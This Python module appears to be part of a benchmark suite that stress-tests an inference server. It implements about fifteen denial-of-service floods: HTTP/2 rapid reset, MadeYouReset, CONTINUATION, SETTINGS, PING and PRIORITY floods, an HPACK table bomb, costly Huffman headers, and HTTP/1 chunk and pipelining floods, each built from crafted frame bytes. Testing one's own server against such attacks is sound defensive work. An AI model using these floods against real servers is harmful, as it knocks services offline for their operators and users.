"""Floods: frames, header blocks and bytes without an end. Every known class of them over HTTP/2 is here."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from itertools import chain, count, cycle, repeat
from typing import Final

from benchmarks.attacks.connections import Victim, attack_on
from benchmarks.attacks.requests import begin, call_headers, data, framed, http_infer, message, together
from gpuserve.cli.bench import http2_client as http2

_BLOCK: Final = call_headers()
_STREAMS: Final = partial(count, 1, 2)
_LARGEST_INCREMENT: Final = http2.window_update(0, http2.WINDOW_NBYTES)[http2.HEAD_NBYTES :]
#: A literal field that goes into the table, of nearly the size of all of it; and its index.
_LARGE_FIELD: Final = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"v" * 4000
_ITS_INDEX: Final = b"\xbe"
_SMALL_CALL: Final = framed(message(1000))
#: Of the 64 KiB that a head may have.
_REPEATS: Final = 15
#: 40,000 times the letter with one of the shortest codes, and two with the longest.
_HUFFMAN: Final = b"\x00\x01a" + b"\xff\xc1\xb7\x02" + b"\x1f" * 40_000


def _flood(frames: Callable[[], Iterable[bytes]], victim: Victim, start: bytes = b"") -> None:
    """The frames again and again, on one connection after the other."""
    first = http2.connection_preface({}) + start
    attack_on(victim, victim.grpc, 1, lambda attack: attack.pour(chain([first], together(frames()))))


def rapid_reset(victim: Victim) -> None:
    """Requests that are cancelled as soon as they are sent (CVE-2023-44487)."""
    _flood(
        lambda: (
            begin(one, _BLOCK) + http2.frame(http2.RESET, 0, one, http2.CANCELLED) for one in _STREAMS()
        ),
        victim,
    )


def made_you_reset(victim: Victim) -> None:
    """Requests that the server has to reset, for frames that are not allowed on them (CVE-2025-8671)."""
    wrong = cycle(
        (
            lambda one: http2.window_update(one, 0),
            lambda one: http2.frame(http2.WINDOW_UPDATE, 0, one, _LARGEST_INCREMENT),
            lambda one: data(one, b"", end=True) + data(one, b"late"),
        )
    )
    _flood(lambda: (begin(one, _BLOCK) + next(wrong)(one) for one in _STREAMS()), victim)


def continuation(victim: Victim) -> None:
    """A header block that does not end (CVE-2024-27316)."""
    start = http2.frame(http2.HEADERS, 0, 1, _BLOCK)
    for piece in (b"", b"\x00\x01a\x01b" * 3000):
        part = http2.frame(http2.CONTINUATION, 0, 1, piece)
        half = dataclasses.replace(victim, seconds=victim.seconds / 2)
        _flood(partial(repeat, part), half, start)


def settings(victim: Victim) -> None:
    """SETTINGS, each of which is to be acknowledged (CVE-2019-9515)."""
    _flood(partial(repeat, http2.settings_frame({http2.INITIAL_WINDOW: 70_000})), victim)


def ping(victim: Victim) -> None:
    """PING, each of which is to be answered (CVE-2019-9512)."""
    _flood(partial(repeat, http2.frame(http2.PING, payload=b"12345678")), victim)


def priority(victim: Victim) -> None:
    """PRIORITY frames of streams that are never used (CVE-2019-9513)."""
    _flood(partial(repeat, http2.frame(http2.PRIORITY, 0, 3, bytes(5))), victim)


def empty_data(victim: Victim) -> None:
    """DATA frames with nothing in them (CVE-2019-9518)."""
    _flood(partial(repeat, data(1, b"")), victim, begin(1, _BLOCK))


def small_data(victim: Victim) -> None:
    """DATA frames of one byte each, of one large message."""
    prefix = b"\0" + (64 << 20).to_bytes(4)
    _flood(partial(repeat, data(1, b"\x0a")), victim, begin(1, _BLOCK) + data(1, prefix))


def windows(victim: Victim) -> None:
    """A window of all streams that goes up and down, while thousands are open (CVE-2019-9511)."""
    resize = [http2.settings_frame({http2.INITIAL_WINDOW: nbytes}) for nbytes in (0, 1, 1 << 30)]
    start = b"".join(begin(one, _BLOCK) for one in range(1, 8000, 2))
    _flood(lambda: cycle(resize), victim, start)


def dribble(victim: Victim) -> None:
    """Answers on hundreds of streams that are taken a byte at a time (CVE-2019-9511)."""
    streams = range(1, 400, 2)
    calls = b"".join(begin(one, _BLOCK) + data(one, _SMALL_CALL, end=True) for one in streams)
    grow = b"".join(http2.window_update(one, 1) for one in streams)
    _flood(partial(repeat, grow), victim, http2.settings_frame({http2.INITIAL_WINDOW: 0}) + calls)


def hpack_bomb(victim: Victim) -> None:
    """Small header blocks that stand for 60 KB each, by an entry of the table."""
    first = begin(1, _BLOCK + _LARGE_FIELD, end=True)
    block = _BLOCK + _ITS_INDEX * _REPEATS
    _flood(lambda: (begin(one, block, end=True) for one in count(3, 2)), victim, first)


def huffman(victim: Victim) -> None:
    """Large header blocks in the code of HPACK that costs the most to read."""

    def blocks() -> Iterator[bytes]:
        for one in _STREAMS():
            yield http2.frame(http2.HEADERS, 0, one, _HUFFMAN[:16384])
            yield http2.frame(http2.CONTINUATION, 0, one, _HUFFMAN[16384:32768])
            yield http2.frame(http2.CONTINUATION, http2.END_HEADERS, one, _HUFFMAN[32768:])

    _flood(blocks, victim)


def _http1_flood(pieces: Iterable[bytes], victim: Victim) -> None:
    attack_on(victim, victim.http, 1, lambda attack: attack.pour(pieces))


def empty_lines(victim: Victim) -> None:
    """Empty lines where a request should begin, 256 KiB at a time."""
    _http1_flood(repeat(b"\r\n" * (128 << 10)), victim)


def tiny_chunks(victim: Victim) -> None:
    """A body in chunks of one byte, without an end."""
    head = http_infer(1)[0].partition(b"Inference-Header")[0]
    start = head + b"Transfer-Encoding: chunked\r\n\r\n"
    _http1_flood(chain([start], repeat(b"1\r\n \r\n" * 20_000)), victim)


def pipelined(victim: Victim) -> None:
    """Small requests without a pause, whose answers are read."""
    head, body = http_infer(4)
    _http1_flood(repeat((head + b"\r\n" + body) * 200), victim)


ATTACKS: Final = (
    rapid_reset, made_you_reset, continuation, settings, ping, priority, empty_data, small_data, windows,
    dribble, hpack_bomb, huffman, empty_lines, tiny_chunks, pipelined,
)  # fmt: skip
